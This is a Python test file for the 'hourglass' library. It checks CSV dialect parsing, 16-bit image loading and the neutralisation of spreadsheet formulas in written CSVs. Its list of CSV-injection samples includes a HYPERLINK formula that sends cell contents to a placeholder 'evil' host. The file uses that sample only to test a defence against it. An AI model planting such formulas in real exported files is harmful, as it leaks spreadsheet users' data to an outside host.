"""Issue 21, tables and images: nothing a user has is misread (CSV dialects, 16-bit images, duplicate
names), and no CSV hourglass writes can run as a spreadsheet formula."""

import csv
import json
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image

import hourglass as hg
from hourglass.cli import main
from hourglass.data import load_dataset
from hourglass.data.tables import neutralise, write_csv
from hourglass.errors import HourglassError

ROOT = Path(__file__).resolve().parents[1]

# ---------------------------------------------------------------------------------------- CSV dialects
# Each file: its bytes, and either the (names, rows) it reads as or a piece of the one-line error it gives.
GOOD = {
    "comma": (b"a,b,c\n1,2,3\n4,5,6\n", ["a", "b", "c"], [[1, 2, 3], [4, 5, 6]]),
    "quoted fields": (b'"a","b,c"\n"1","2"\n3,"4"\n', ["a", "b,c"], [[1, 2], [3, 4]]),
    "quoted line break": (b'a,"b\nc"\n1,2\n', ["a", "b\nc"], [[1, 2]]),
    "BOM": (b"\xef\xbb\xbfa,b\n1,2\n", ["a", "b"], [[1, 2]]),
    "CRLF": (b"a,b\r\n1,2\r\n3,4\r\n", ["a", "b"], [[1, 2], [3, 4]]),
    "trailing empty lines": (b"a,b\n1,2\n\n\n", ["a", "b"], [[1, 2]]),
    "trailing comma everywhere": (b"a,b,\n1,2,\n3,4,\n", ["a", "b"], [[1, 2], [3, 4]]),
    "trailing comma on rows": (b"a,b\n1,2,\n3,4,\n", ["a", "b"], [[1, 2], [3, 4]]),
    "one real column": (b"x\n1.5\n-2\n", ["x"], [[1.5], [-2]]),
}
BAD = {
    "implicit index (header one short)": (b"a,b\n1,2,3\n4,5,6\n", "line 2 has 3 fields, but the header has 2"),
    "long row": (b"a,b,c\n1,2,3\n4,5,6,7\n", "line 3 has 4 fields, but the header has 3"),
    "short row": (b"a,b,c\n1,2,3\n4,5\n", "line 3 has 2 fields, but the header has 3"),
    "short row after CRLF and BOM": (b"\xef\xbb\xbfa,b\r\n1,2\r\n3\r\n", "line 3 has 1 fields, but the header has 2"),
    "semicolon, decimal commas": (b"a;b\n1,5;2,25\n3,5;4,75\n", "looks semicolon-separated"),
    "semicolon, decimal points": (b"a;b;c\n1.5;2;3\n", "looks semicolon-separated"),
    "tab in a .csv": (b"a\tb\n1\t2\n", "looks tab-separated"),
    "pipe": (b"a|b\n1|2\n", "looks pipe-separated"),
    "one column of decimal commas": (b"x\n1,5\n2,5\n", "decimal comma"),
    "duplicate names": (b"a,a,b\n1,2,3\n", "names column 'a' 2 times"),
    "empty": (b"", "the file is empty"),
}


def _write(tmp_path, name, data, suffix=".csv"):
    path = tmp_path / f"{name.replace(' ', '_').replace(',', '')}{suffix}"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("case", GOOD)
def test_csv_dialects_read_as_written(tmp_path, case):
    data, names, rows = GOOD[case]
    path = _write(tmp_path, "good", data)
    for ds in (load_dataset(path), next(iter(hg.data.iter_chunks(path, rows=1)))):
        assert ds.feature_names == names
        np.testing.assert_array_equal(ds.X[:1], np.asarray(rows, np.float32)[:1])
    np.testing.assert_array_equal(load_dataset(path).X, np.asarray(rows, np.float32))


@pytest.mark.parametrize("case", BAD)
def test_misshapen_csv_is_one_clear_error(tmp_path, case):
    data, message = BAD[case]
    path = _write(tmp_path, "bad", data)
    with pytest.raises(HourglassError, match=message.replace("(", r"\(")) as e:
        load_dataset(path)
    assert "\n" not in str(e.value) and str(path) in str(e.value)
    with pytest.raises(HourglassError, match=message.replace("(", r"\(")):  # streamed (score) as loaded
        list(hg.data.iter_chunks(path, rows=1))


def test_tsv_with_commas_names_the_comma(tmp_path):
    path = _write(tmp_path, "commas", b"a,b\n1,2\n", suffix=".tsv")
    with pytest.raises(HourglassError, match="looks comma-separated; save it tab-separated"):
        load_dataset(path)


def test_ragged_csv_fails_train_and_encode_with_exit_2(tmp_path, capsys):
    good = _write(tmp_path, "train", b"a,b\n" + b"".join(b"%d,%d\n" % (i, 2 * i) for i in range(40)))
    assert main(["train", str(good), "--epochs", "1", "--hidden", "2", "--quiet", "--out", str(tmp_path / "m")]) == 0
    bad = _write(tmp_path, "bad", b"a,b\n1,2,3\n4,5,6\n")
    for argv in (
        ["train", str(bad), "--epochs", "1", "--out", str(tmp_path / "m2")],
        ["encode", str(tmp_path / "m"), str(bad), "-o", str(tmp_path / "c.csv")],
    ):
        capsys.readouterr()
        assert main(argv) == 2
        assert "line 2 has 3 fields, but the header has 2" in capsys.readouterr().err


# ------------------------------------------------------------------------------ spreadsheet formulas
# OWASP's CSV-injection prefixes, each in a column name, a label value and (below) an image's file name.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _cells(path: Path) -> list[str]:
    """Every cell (header included) of a CSV/TSV as a spreadsheet would see it."""
    sep = "\t" if path.suffix == ".tsv" else ","
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f, delimiter=sep) for cell in row]


def _assert_no_formula(path: Path) -> None:
    cells = _cells(path)
    assert cells
    for cell in cells:
        if cell[:1] in PREFIXES:
            float(cell)  # only a plain number such as -1.5 may start with - or +


def test_neutralise_corpus():
    for formula in FORMULAS:
        assert neutralise(formula) == "'" + formula
    for kept in ["-1.5", "+2", "-3e-05", "1e5", ".5", "plain", "a=b", "", 7, -1.0, None]:
        assert neutralise(kept) == kept
    for text in ["-", "--", "-1-1", "+A1", "=", "@", "-inf"]:
        assert neutralise(text) == "'" + text


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_write_csv_keeps_numbers_and_neutralises_text(tmp_path, suffix):
    frame = pd.DataFrame({"=cmd": [-1.5, 2.0], "label": ["=1+1", "-2"], "n": [-3, 4]})
    path = tmp_path / f"t{suffix}"
    write_csv(frame, path, sep="\t" if suffix == ".tsv" else ",")
    back = pd.read_csv(path, sep="\t" if suffix == ".tsv" else ",")
    assert back.columns.tolist() == ["'=cmd", "label", "n"]
    assert back["'=cmd"].tolist() == [-1.5, 2.0] and back["n"].tolist() == [-3, 4]
    assert back["label"].tolist() == ["'=1+1", "-2"]
    assert frame.columns[0] == "=cmd"  # the caller's frame is untouched
    write_csv(pd.DataFrame({"a\rb": ["x\r=1+1", "y\r\nz"]}), path)  # a CR inside is no row break
    assert pd.read_csv(path).to_dict("list") == {"a\nb": ["x\n=1+1", "y\nz"]}


def test_no_cli_csv_holds_a_formula(tmp_path, capsys):
    """Column names and labels that are formulas, through fit-detector, score --explain, encode (to a file
    and to standard output) and reconstruct: no cell of any CSV they write starts a formula."""
    rng = np.random.default_rng(0)
    z = rng.normal(size=(120, 2))
    X = np.column_stack([z[:, 0], z[:, 1], z[:, 0] + z[:, 1], z[:, 0] - z[:, 1], rng.normal(size=120), -z[:, 0]])
    X[-3:] += 8  # some rows to flag and explain
    frame = pd.DataFrame(X, columns=FORMULAS)
    frame["label"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(frame))]
    data = tmp_path / "data.csv"
    frame.to_csv(data, index=False, quoting=csv.QUOTE_NONNUMERIC)  # else pandas leaves the CR unquoted
    det, model = tmp_path / "det", tmp_path / "ae"
    common = ["--label", "label", "--epochs", "3", "--hidden", "4", "--quiet", "--out"]
    assert main(["fit-detector", str(data), *common, str(det)]) == 0
    assert main(["train", str(data), *common, str(model)]) == 0
    outputs = {
        "score": ["score", str(det), str(data), "--label", "label", "--explain", "2", "--top", "3"],
        "encode": ["encode", str(model), str(data), "--label", "label"],
        "reconstruct": ["reconstruct", str(model), str(data), "--label", "label"],
    }
    for name, argv in outputs.items():
        for suffix in (".csv", ".tsv"):
            out = tmp_path / f"{name}{suffix}"
            assert main([*argv, "-o", str(out)]) == 0, name
            _assert_no_formula(out)
    text = _cells(tmp_path / "score.csv")
    assert any(c.startswith("'=HYPERLINK(") for c in text)  # the name is kept, made inert
    capsys.readouterr()
    assert main([*outputs["encode"], "-o", "-"]) == 0
    stdout = tmp_path / "stdout.csv"
    stdout.write_text(capsys.readouterr().out)
    _assert_no_formula(stdout)


def test_image_paths_that_are_formulas_are_neutralised(tmp_path):
    """Files named like formulas at the top (their path is the cell) and in a folder named like one (the label)."""
    root = tmp_path / "imgs"
    (root / "@cmd").mkdir(parents=True)
    for i, name in enumerate(["=1+1", "@SUM(A1)", "-2+3", "+x"] * 3):
        Image.fromarray(np.full((8, 8), 20 * i, np.uint8)).save(root / f"{name} {i}.png")
        Image.fromarray(np.full((8, 8), 10 * i, np.uint8)).save(root / "@cmd" / f"{i}.png")
    model, out = tmp_path / "ae", tmp_path / "codes.csv"
    assert main(["train", str(root), "--epochs", "1", "--hidden", "2", "--quiet", "--out", str(model)]) == 0
    assert main(["encode", str(model), str(root), "-o", str(out)]) == 0
    _assert_no_formula(out)
    cells = _cells(out)
    assert "'@cmd" in cells and "'=1+1 0.png" in cells  # kept, made inert


def test_lasso_csv_neutralises_labels_and_paths():
    """explorer.js's csvField, run by node on a corpus of labels and paths."""
    js = (ROOT / "src/hourglass/explorer/static/explorer.js").read_text()
    start = js.index("  const csvField = ")
    end = js.index("  };\n", start) + len("  };\n")
    corpus = [*FORMULAS, "-1.5", "plain", 'say "hi", =x']
    script = js[start:end] + f"\nprocess.stdout.write(JSON.stringify({json.dumps(corpus)}.map(csvField)));\n"
    try:
        result = subprocess.run(["node", "-e", script], capture_output=True, text=True, timeout=60, check=True)
    except FileNotFoundError:
        pytest.skip("node is not installed")
    fields = json.loads(result.stdout)
    assert fields[: len(FORMULAS)] == [
        f"'{f}" if not any(c in f for c in '",\r\n') else '"' + f"'{f}".replace('"', '""') + '"' for f in FORMULAS
    ]
    assert fields[len(FORMULAS) :] == ["-1.5", "plain", '"say ""hi"", =x"']


# ---------------------------------------------------------------------------------------- 16-bit images
GRADIENT = np.linspace(0, 65535, 64).round().astype(np.uint16).reshape(8, 8)


def _save16(path: Path, values: np.ndarray, mode: str = "I;16") -> None:
    if mode == "I;16B":
        Image.frombytes("I;16B", values.shape[::-1], values.astype(">u2").tobytes()).save(path)
    else:
        Image.fromarray(values.astype(np.uint16)).save(path)


@pytest.mark.parametrize(("name", "mode"), [("g.png", "I;16"), ("g.tif", "I;16"), ("g.tiff", "I;16B")])
def test_16_bit_gradient_keeps_every_level(tmp_path, name, mode):
    _save16(tmp_path / name, GRADIENT, mode)
    X = load_dataset(tmp_path).X
    assert X.dtype == np.uint16 and X.shape == (1, 8, 8)
    np.testing.assert_array_equal(X[0], GRADIENT)  # not 0, 255, 255, ...


def test_16_bit_images_are_resized_at_their_depth(tmp_path):
    _save16(tmp_path / "a.png", GRADIENT)
    _save16(tmp_path / "b.png", GRADIENT)
    _save16(tmp_path / "c.png", np.kron(GRADIENT, np.ones((2, 2), np.uint16)))  # 16x16: resized to 8x8
    X = load_dataset(tmp_path).X
    assert X.dtype == np.uint16 and X.shape == (3, 8, 8)
    assert X[2].max() > 60000 and len(np.unique(X[2])) > 32


@pytest.mark.filterwarnings("ignore:the model is no better")
def test_12_bit_data_in_16_bit_pngs_trains_on_its_own_range(tmp_path):
    rng = np.random.default_rng(0)
    for i in range(24):
        _save16(tmp_path / f"{i:02d}.png", rng.integers(0, 4096, (6, 6)))
    data = load_dataset(tmp_path)
    assert data.X.dtype == np.uint16 and 4000 < data.X.max() < 4096
    model = hg.Autoencoder(hidden=(4,), epochs=1, seed=0).fit(data.X)
    lo, hi = model.scaler_.offset.min(), (model.scaler_.offset + model.scaler_.scale).max()
    assert lo == data.X.min() and hi == data.X.max()  # 0..4095, not 0..255 nor 0..65535


@pytest.mark.parametrize("color", ["auto", "gray", "rgb"])
def test_mixed_8_and_16_bit_folder_is_one_depth(tmp_path, color):
    _save16(tmp_path / "deep.png", GRADIENT)
    Image.fromarray(np.full((8, 8), 255, np.uint8)).save(tmp_path / "white8.png")
    Image.fromarray(np.full((8, 8, 3), [255, 0, 0], np.uint8)).save(tmp_path / "red8.png")
    X = load_dataset(tmp_path, color=color).X
    assert X.dtype == np.uint16
    deep, red, white = X  # sorted by name
    if color == "gray":
        np.testing.assert_array_equal(deep, GRADIENT)
        assert (white == 65535).all() and (red == 19595 * 65535 + 0x8000 >> 16).all()  # Pillow's luma
    else:
        np.testing.assert_array_equal(deep[..., 0], GRADIENT)
        assert (deep[..., 0] == deep[..., 2]).all()
        assert (white == 65535).all() and (red == [65535, 0, 0]).all()


def test_8_bit_folders_are_unchanged(tmp_path):
    rng = np.random.default_rng(1)
    images = rng.integers(0, 256, (4, 5, 6, 3), dtype=np.uint8)
    for i, a in enumerate(images):
        Image.fromarray(a).save(tmp_path / f"{i}.png")
    rgb, gray = load_dataset(tmp_path).X, load_dataset(tmp_path, color="gray").X
    assert rgb.dtype == gray.dtype == np.uint8
    np.testing.assert_array_equal(rgb, images)
    np.testing.assert_array_equal(gray, [np.asarray(Image.fromarray(a).convert("L")) for a in images])
